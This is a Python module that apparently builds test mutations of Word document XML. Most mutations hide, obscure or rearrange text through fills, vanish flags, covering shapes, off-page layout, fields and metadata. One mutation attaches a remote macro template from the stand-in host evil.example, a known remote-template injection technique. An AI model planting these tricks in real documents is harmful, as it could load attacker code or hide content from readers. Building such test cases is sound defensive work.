"""More kinds of change to Word documents: what Word draws over, draws otherwise, or fills in when it opens them."""

from __future__ import annotations

import random
import re

from mutation_word import _MAIN, _RELATED, AFTER, CHANGES, TEXT, Change, Files, emptied, paragraph, run, sub

ADDED = "نص دخيل"
_W14 = 'xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml"'
_SHAPE = (
    '<w:r><w:pict><v:rect xmlns:v="urn:schemas-microsoft-com:vml" style="position:absolute;left:0;top:0;width:600pt;'
    'height:800pt;z-index:9" fillcolor="white" stroked="f"/></w:pict></w:r>'
)
_DRAWN = (
    '<w:r><w:drawing><wp:anchor xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
    'behindDoc="0" simplePos="0" relativeHeight="9" locked="0" layoutInCell="1" allowOverlap="1"><wp:simplePos x="0" y="0"/>'
    '<wp:positionH relativeFrom="page"><wp:posOffset>0</wp:posOffset></wp:positionH><wp:positionV relativeFrom="page">'
    '<wp:posOffset>0</wp:posOffset></wp:positionV><wp:extent cx="7000000" cy="9000000"/><wp:wrapNone/><wp:docPr id="99" name="x"/>'
    '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData '
    'uri="http://schemas.microsoft.com/office/word/2010/wordprocessingShape"><wps:wsp '
    'xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape"><wps:spPr><a:xfrm><a:off x="0" y="0"/>'
    '<a:ext cx="7000000" cy="9000000"/></a:xfrm><a:prstGeom prst="rect"/><a:solidFill><a:srgbClr val="FFFFFF"/></a:solidFill>'
    "</wps:spPr></wps:wsp></a:graphicData></a:graphic></wp:anchor></w:drawing></w:r>"
)


def exchange(pattern: str, part: str = _MAIN) -> Change:
    """Return the change that exchanges what the first two different matches hold in their group."""

    def made(files: Files, rng: random.Random) -> None:
        for name in [name for name in files if re.fullmatch(part, name)]:
            text = files[name].decode()
            found = list(re.finditer(pattern, text, re.DOTALL))
            other = next((one for one in found if one[1] != found[0][1]), None)
            if other is not None:
                one = found[0]
                text = (
                    text[: one.start(1)] + other[1] + text[one.end(1) : other.start(1)] + one[1] + text[other.end(1) :]
                )
                files[name] = text.encode()

    return made


def setting(content: str) -> Change:
    return sub(r"</w:settings>", f"{content}</w:settings>", "word/settings.xml")


def template(files: Files, rng: random.Random) -> None:
    name = "word/_rels/settings.xml.rels"
    rels = files.get(
        name, b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    )
    one = f'<Relationship Id="rT" Type="{_RELATED}/attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"/>'
    files[name] = rels.decode().replace("</Relationships>", f"{one}</Relationships>").encode()
    setting(f'<w:attachedTemplate xmlns:r="{_RELATED}" r:id="rT"/>')(files, rng)


def bound(files: Files, rng: random.Random) -> None:
    """Bind a paragraph's text to the title in the metadata, which Word shows in its place."""
    binding = ('<w:dataBinding w:xpath="/ns1:coreProperties[1]/ns0:keywords[1]" '
               'w:storeItemID="{6C3C8BC8-F283-45AE-878A-BAB7291924A1}"/>')  # fmt: skip
    text = files[_MAIN].decode()
    new = rf"<w:sdt><w:sdtPr>{binding}</w:sdtPr><w:sdtContent>\1</w:sdtContent></w:sdt>"
    files[_MAIN] = re.sub(
        r"(<w:r>(?:(?!<w:r>).)*?<w:t[^>]*>[^<]{12,}</w:t></w:r>)", new, text, count=1, flags=re.DOTALL
    ).encode()


_CHARACTER = (
    '<w:style w:type="character" w:styleId="X9"><w:name w:val="X9"/><w:rPr><w:vanish/></w:rPr></w:style></w:styles>'
)


def by_style(files: Files, rng: random.Random) -> None:
    files["word/styles.xml"] = files["word/styles.xml"].decode().replace("</w:styles>", _CHARACTER).encode()
    run('<w:rStyle w:val="X9"/>')(files, rng)


def theme_colour(files: Files, rng: random.Random) -> None:
    run('<w:color w:val="000000" w:themeColor="accent6"/>')(files, rng)
    for name in [name for name in files if re.fullmatch(r"word/theme/theme\d\.xml", name)]:
        files[name] = re.sub(
            r"(<a:accent6>).*?(</a:accent6>)", r'\1<a:srgbClr val="FFFFFF"/>\2', files[name].decode()
        ).encode()


_R = r"(<w:r>(?:(?!<w:r>).)*?<w:t[^>]*>[^<]{12,}</w:t></w:r>)"
CHANGES |= {
    "run: text without fill": run(f"<w14:textFill {_W14}><w14:noFill/></w14:textFill>"),
    "run: text transparent": run(
        f'<w14:textFill {_W14}><w14:solidFill><w14:srgbClr w14:val="000000"><w14:alpha w14:val="100000"/></w14:srgbClr>'
        "</w14:solidFill></w14:textFill>"),
    "run: text filled in white": run(
        f'<w14:textFill {_W14}><w14:solidFill><w14:srgbClr w14:val="FFFFFF"/></w14:solidFill></w14:textFill>'),
    "run: fitted into nothing": run('<w:fitText w:val="1"/>'),
    "run: hidden by a style of characters": by_style,
    "run: white by the theme": theme_colour,
    "run: theme colour with tint": run('<w:color w:val="000000" w:themeColor="text1" w:themeTint="00"/>'),
    "run: solid pattern of its colour": run('<w:color w:val="000000"/><w:shd w:val="solid" w:color="000000" w:fill="FFFFFF"/>'),
    "run: struck out twice": run("<w:dstrike/>"),
    "run: raised": run('<w:vertAlign w:val="superscript"/>'),
    "run: two lines in one": run('<w:eastAsianLayout w:id="1" w:combine="1"/>'),
    "run: Webdings": run('<w:rFonts w:ascii="Webdings" w:hAnsi="Webdings" w:cs="Webdings"/>'),
    "run: emptied by its hint": run('<w:rFonts w:cs="Symbol"/>'),
    "run: override of direction": sub(_R, r'<w:bdo w:val="ltr">\1</w:bdo>'),
    "run: embedded direction": sub(_R, r'<w:dir w:val="ltr">\1</w:dir>'),
    "run: bound to metadata": bound,
    "run: placeholder": sub(_R, r"<w:sdt><w:sdtPr><w:showingPlcHdr/></w:sdtPr><w:sdtContent>\1</w:sdtContent></w:sdt>"),
    "run: ruby": sub(_R, rf"<w:r><w:ruby><w:rt>{TEXT}</w:rt><w:rubyBase>\1</w:rubyBase></w:ruby></w:r>"),
    "run: in deleted wrapper": sub(_R, r'<w:del w:id="9" w:author="x">\1</w:del>'),
    "paragraph: mark deleted": paragraph('<w:rPr><w:del w:id="9" w:author="x"/></w:rPr>'),
    "paragraph: frame of no height": paragraph('<w:framePr w:w="9000" w:h="1" w:hRule="exact" w:wrap="around"/>'),
    "paragraph: ground of its colour": paragraph('<w:shd w:val="clear" w:color="auto" w:fill="101010"/>'),
    "paragraph: solid ground": paragraph('<w:shd w:val="solid" w:color="000000" w:fill="auto"/>'),
    "paragraph: text upright": paragraph('<w:textDirection w:val="btLr"/>'),
    "paragraph: two exchanged": exchange(r'<w:pStyle w:val="BodyText"/>(.*?</w:p>)'),
    "default: paragraphs off the page": sub(
        r"(<w:pPrDefault><w:pPr>)", r'\1<w:ind w:left="40000" w:right="40000"/>', "word/styles.xml"),
    "page: columns": sub(r"(<w:pgMar [^>]*/>)", r'\1<w:cols w:num="40" w:space="10"/>'),
    "page: text upright": sub(r"(<w:pgMar [^>]*/>)", r'\1<w:textDirection w:val="btLr"/>'),
    "page: covered by a rectangle": sub(AFTER, rf"\1{_SHAPE}</w:p>"),
    "page: covered by a drawing": sub(AFTER, rf"\1{_DRAWN}</w:p>"),
    "page: watermark": sub(
        r"</w:hdr>", '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" type="#_x0000_t136">'
        f'<v:textpath string="{ADDED}"/></v:shape></w:pict></w:r></w:p></w:hdr>', r"word/header\d\.xml"),
    "field: IF": sub(AFTER, rf'\1<w:fldSimple w:instr="IF 1 = 1 &quot;{ADDED}&quot;">{TEXT}</w:fldSimple></w:p>'),
    "field: ADVANCE": sub(r'(<w:pStyle w:val="BodyText"/>.*?</w:pPr>)', r'\1<w:fldSimple w:instr="ADVANCE \\r 9000"/>'),
    "field: EQ": sub(AFTER, r'\1<w:fldSimple w:instr="EQ \\o(1,5)"/></w:p>'),
    "field: SYMBOL": sub(AFTER, r'\1<w:fldSimple w:instr="SYMBOL 74 \\f Wingdings"/></w:p>'),
    "field: MACROBUTTON": sub(AFTER, rf'\1<w:fldSimple w:instr="MACROBUTTON x {ADDED}"/></w:p>'),
    "field: NUMPAGES as text": sub(AFTER, r'\1<w:fldSimple w:instr="NUMPAGES"><w:r><w:t>1500</w:t></w:r></w:fldSimple></w:p>'),
    "field: DOCPROPERTY": sub(AFTER, r'\1<w:fldSimple w:instr="DOCPROPERTY Comments"/></w:p>'),
    "header: another number": sub(r"</w:hdr>", "<w:p><w:r><w:t>1500</w:t></w:r></w:p></w:hdr>", r"word/header\d\.xml"),
    "note: text of the separator": sub(
        r"<w:separator/>", f"<w:t>{ADDED}</w:t>", r"word/footnotes\.xml"),
    "note: begins at another number": sub(r"</w:sectPr>", '<w:footnotePr><w:numStart w:val="7"/></w:footnotePr></w:sectPr>'),
    "note: hidden": sub(r"<w:rPr>", "<w:rPr><w:vanish/>", r"word/footnotes\.xml", 0),
    "link: two exchanged": exchange(r'Target="(http[^"]*)"', r"word/_rels/document\.xml\.rels"),
    "link: text hidden": sub(r"(<w:hyperlink [^>]*><w:r><w:rPr>)", r"\1<w:vanish/>"),
    "picture: faded": sub(r"<a:blip ([^>]*)/>", r'<a:blip \1><a:lum bright="100000"/></a:blip>'),
    "picture: transparent": sub(r"<a:blip ([^>]*)/>", r'<a:blip \1><a:alphaModFix amt="0"/></a:blip>'),
    "picture: turned": sub(r"<a:xfrm>", '<a:xfrm rot="10800000">'),
    "picture: mirrored": sub(r"<a:xfrm>", '<a:xfrm flipH="1">'),
    "picture: title": sub(r"(<wp:docPr )", rf'\1title="{ADDED}" '),
    "picture: linked beside": sub(r'(<a:blip )(r:embed="[^"]*")', r'\1r:link="rId1" \2'),
    "table: cells exchanged": exchange(r"<w:tc>.*?<w:t[^>]*>([^<]*)</w:t>"),
    "table: rows exchanged": exchange(r"(<w:tr[ >](?:(?!<w:tblHeader).)*?</w:tr>)"),
    "table: cell merged away": sub(r"(<w:tr[ >].*?<w:tr[ >].*?<w:tcPr>)", r"\1<w:vMerge/>"),
    "table: floating off the page": sub(r"<w:tblPr>", '<w:tblPr><w:tblpPr w:tblpX="30000" w:tblpY="1"/>'),
    "table: indented off the page": sub(r"<w:tblPr>", '<w:tblPr><w:tblInd w:w="30000" w:type="dxa"/>'),
    "table: text of cells upright": sub(r"<w:tcPr>", '<w:tcPr><w:textDirection w:val="btLr"/>'),
    "list: label hidden by its format": sub(r"(<w:lvl .*?)</w:lvl>", r"\1<w:rPr><w:vanish/></w:rPr></w:lvl>", "word/numbering.xml", 0),
    "list: label white": sub(r"(<w:lvl .*?)</w:lvl>", r'\1<w:rPr><w:color w:val="FFFFFF"/></w:rPr></w:lvl>', "word/numbering.xml", 0),
    "list: label a fixed number": sub(r'<w:lvlText w:val="%1', '<w:lvlText w:val="7', "word/numbering.xml", 0),
    "list: item indented away": sub(r"(<w:numPr>.*?</w:numPr>)", r'\1<w:ind w:right="30000" w:left="30000"/>'),
    "settings: template of another place": template,
    "metadata: description": sub(r"</cp:coreProperties>", f"<dc:description>{ADDED}</dc:description></cp:coreProperties>", "docProps/core.xml"),
    "metadata: subject": sub(r"</cp:coreProperties>", f"<dc:subject>{ADDED}</dc:subject></cp:coreProperties>", "docProps/core.xml"),
    "metadata: hash": sub(r"[0-9a-f]{64}", "0" * 64, r"docProps/custom\.xml|customXml/.*", 0),
    "package: embedded document": lambda files, rng: files.update({"word/embeddings/x.docx": b"x"}),
    "package: fonts exchanged": lambda files, rng: _rotate(files),
    "package: numbering removed": emptied("word/numbering.xml", None),
}  # fmt: skip


def _rotate(files: Files) -> None:
    names = sorted(name for name in files if name.endswith(".odttf"))
    if len(names) > 1:
        files[names[0]], files[names[1]] = files[names[1]], files[names[0]]
